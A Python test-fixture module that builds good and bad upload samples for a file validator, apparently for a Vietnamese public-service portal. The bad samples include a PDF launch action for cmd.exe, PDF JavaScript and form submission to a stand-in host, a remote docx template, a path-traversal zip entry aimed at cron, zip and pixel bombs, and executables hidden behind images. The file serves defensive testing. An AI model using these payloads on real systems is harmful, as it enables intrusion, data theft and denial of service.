"""Files that people and attackers send: made here, so that no suspicious file lies in the repository."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Mapping

import pikepdf
from PIL import Image

_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Override PartName="/{part}" ContentType="application/vnd.openxmlformats-officedocument.{main}.main+xml"/>'
    "{more}</Types>"
)
_RELS = (
    '<Relationships><Relationship Id="r1" Type="http://x/officeDocument/2006/relationships/{kind}" Target="{to}" '
    "{mode}/></Relationships>"
)


def pdf(**changes: object) -> bytes:
    """One blank page, with the given entries in its catalog."""
    out = io.BytesIO()
    with pikepdf.new() as made:
        made.add_blank_page()
        for key, value in changes.items():
            made.Root[f"/{key}"] = made.make_indirect(value) if isinstance(value, pikepdf.Dictionary) else value
        made.save(out)
    return out.getvalue()


def encrypted_pdf(user: str) -> bytes:
    out = io.BytesIO()
    with pikepdf.new() as made:
        made.add_blank_page()
        made.save(out, encryption=pikepdf.Encryption(owner="chu", user=user))
    return out.getvalue()


def pdf_with_attachment() -> bytes:
    out = io.BytesIO()
    with pikepdf.new() as made:
        made.add_blank_page()
        made.attachments["virus.exe"] = b"MZ"
        made.save(out)
    return out.getvalue()


def pdf_with_annotation(**entries: object) -> bytes:
    out = io.BytesIO()
    with pikepdf.new() as made:
        made.add_blank_page()
        annotation = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Rect=[0, 0, 9, 9], **entries)
        made.pages[0].Annots = pikepdf.Array([annotation])
        made.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return out.getvalue()


def pdf_without_pages() -> bytes:
    out = io.BytesIO()
    with pikepdf.new() as made:
        made.save(out)
    return out.getvalue()


def action(kind: str, **entries: object) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name(f"/{kind}"), **entries)


def picture(kind: str = "PNG", size: tuple[int, int] = (40, 30)) -> bytes:
    out = io.BytesIO()
    Image.effect_noise(size, 60).convert("RGB").save(out, kind)
    return out.getvalue()


def pixel_bomb(width: int = 40_000, height: int = 40_000) -> bytes:
    """A few hundred bytes that say they are 1.6 billion pixels."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 9)) + chunk(b"IEND", b"")


def office(ending: str = "docx", more: Mapping[str, bytes] | None = None, types: str = "", main: str = "") -> bytes:
    part = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml"}[ending]
    main = main or {"docx": "wordprocessingml.document", "xlsx": "spreadsheetml.sheet"}[ending]
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("[Content_Types].xml", _TYPES.format(part=part, main=main, more=types))
        made.writestr("_rels/.rels", _RELS.format(kind="officeDocument", to=part, mode=""))
        made.writestr(part, "<document/>")
        for name, content in (more or {}).items():
            made.writestr(name, content)
    return out.getvalue()


def relation(kind: str, to: str) -> bytes:
    return _RELS.format(kind=kind, to=to, mode='TargetMode="External"').encode()


def zipped(names: Mapping[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in names.items():
            made.writestr(name, content)
    return out.getvalue()


HTML = b"<!doctype html><html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"

GOOD: Mapping[str, tuple[str, bytes, str]] = {
    "pdf": ("Đơn đề nghị.pdf", pdf(), "application/pdf"),
    "pdf with a link": (
        "a.pdf",
        pdf_with_annotation(Subtype=pikepdf.Name.Link, A=action("URI", URI=b"https://bacninh.gov.vn")),
        "application/pdf",
    ),
    "upper-case ending": ("SCAN0001.PDF", pdf(), "application/pdf"),
    "jpg": ("cccd.jpg", picture("JPEG"), "image/jpeg"),
    "jpeg": ("cccd.jpeg", picture("JPEG"), "image/jpeg"),
    "phone picture": ("IMG_1.JPG", picture("MPO"), "image/jpeg"),
    "png": ("ảnh.png", picture(), "image/png"),
    "docx": (
        "đơn.docx",
        office("docx", {"word/_rels/document.xml.rels": relation("hyperlink", "https://bacninh.gov.vn")}),
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
    "xlsx": ("bảng.xlsx", office("xlsx"), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
}

BAD: Mapping[str, tuple[str, bytes]] = {
    "empty": ("a.pdf", b""),
    "html posing as pdf": ("a.pdf", HTML),
    "svg posing as png": ("a.png", SVG),
    "svg": ("a.svg", SVG),
    "html": ("a.html", HTML),
    "exe": ("a.exe", b"MZ" + b"\0" * 600),
    "exe posing as pdf": ("a.pdf", b"MZ" + b"\0" * 600),
    "double ending": ("đơn.pdf.exe", b"MZ" + b"\0" * 600),
    "no ending": ("README", pdf()),
    "ending only": (".pdf", pdf()),
    "heic": ("IMG.HEIC", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic"),
    "zip": ("a.zip", zipped({"a": b"a"})),
    "eicar": ("a.pdf", EICAR),
    "png named pdf": ("a.pdf", picture()),
    "pdf named jpg": ("a.jpg", pdf()),
    "docx named xlsx": ("a.xlsx", office("docx")),
    "zip named docx": ("a.docx", zipped({"a": b"a"})),
    "leading junk before pdf": ("a.pdf", b"<script>alert(1)</script>\n" + pdf()),
    "zip behind pdf": ("a.pdf", pdf() + zipped({"a.exe": b"MZ"})),
    "html behind pdf": ("a.pdf", pdf() + HTML),
    "zip behind jpg": ("a.jpg", picture("JPEG") + zipped({"a.exe": b"MZ"})),
    "zip behind png": ("a.png", picture() + zipped({"a.exe": b"MZ"})),
    "pdf head only": ("a.pdf", b"%PDF-1.7\n"),
    "cut pdf": ("a.pdf", pdf()[:-40]),
    "garbage pdf": ("a.pdf", b"%PDF-1.7\n" + b"\x00\xff" * 900 + b"\n%%EOF\n"),
    "pdf without pages": ("a.pdf", pdf_without_pages()),
    "pdf with password": ("a.pdf", encrypted_pdf("mat-khau")),
    "pdf locked by its owner": ("a.pdf", encrypted_pdf("")),
    "pdf open action javascript": ("a.pdf", pdf(OpenAction=action("JavaScript", JS=b"app.alert(1)"))),
    "pdf javascript in names": (
        "a.pdf",
        pdf(Names=pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=[b"a", action("JavaScript", JS=b"x")]))),
    ),
    "pdf launch": ("a.pdf", pdf(OpenAction=action("Launch", F=b"cmd.exe"))),
    "pdf submits a form": ("a.pdf", pdf(OpenAction=action("SubmitForm", F=b"https://x.example"))),
    "pdf attachment": ("a.pdf", pdf_with_attachment()),
    "pdf rich media": ("a.pdf", pdf_with_annotation(Subtype=pikepdf.Name.RichMedia)),
    "pdf script on an annotation": (
        "a.pdf",
        pdf_with_annotation(Subtype=pikepdf.Name.Link, A=action("URI", URI=b"x", Next=action("JavaScript", JS=b"x"))),
    ),
    "pdf xfa": ("a.pdf", pdf(AcroForm=pikepdf.Dictionary(Fields=[], XFA=b"<x/>"))),
    "pixel bomb": ("a.png", pixel_bomb()),
    "cut jpg": ("a.jpg", picture("JPEG", (400, 300))[:2000]),
    "cut png": ("a.png", picture("PNG", (400, 300))[:2000]),
    "jpg head only": ("a.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00"),
    "gif named png": ("a.png", picture("GIF")),
    "zip bomb in docx": ("a.docx", office("docx", {"word/media/a.bmp": b"\0" * (40 << 20)})),
    "docx with macro": ("a.docx", office("docx", {"word/vbaProject.bin": b"x"})),
    "docx declared with macros": (
        "a.docx",
        office(
            "docx",
            types='<Default Extension="x" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
        ),
    ),
    "docx with ole object": ("a.docx", office("docx", {"word/embeddings/oleObject1.bin": b"x"})),
    "docx with remote template": (
        "a.docx",
        office("docx", {"word/_rels/settings.xml.rels": relation("attachedTemplate", "https://x.example/a.dotm")}),
    ),
    "docx entity bomb": ("a.docx", office("docx", {"word/x.xml": b'<!DOCTYPE a [<!ENTITY b "bbb">]><a>&b;</a>'})),
    "docx climbing names": ("a.docx", office("docx", {"../../etc/cron.d/x": b"x"})),
    "docx with leading junk": ("a.docx", HTML + office("docx")),
    "docx cut": ("a.docx", office("docx")[:-30]),
}
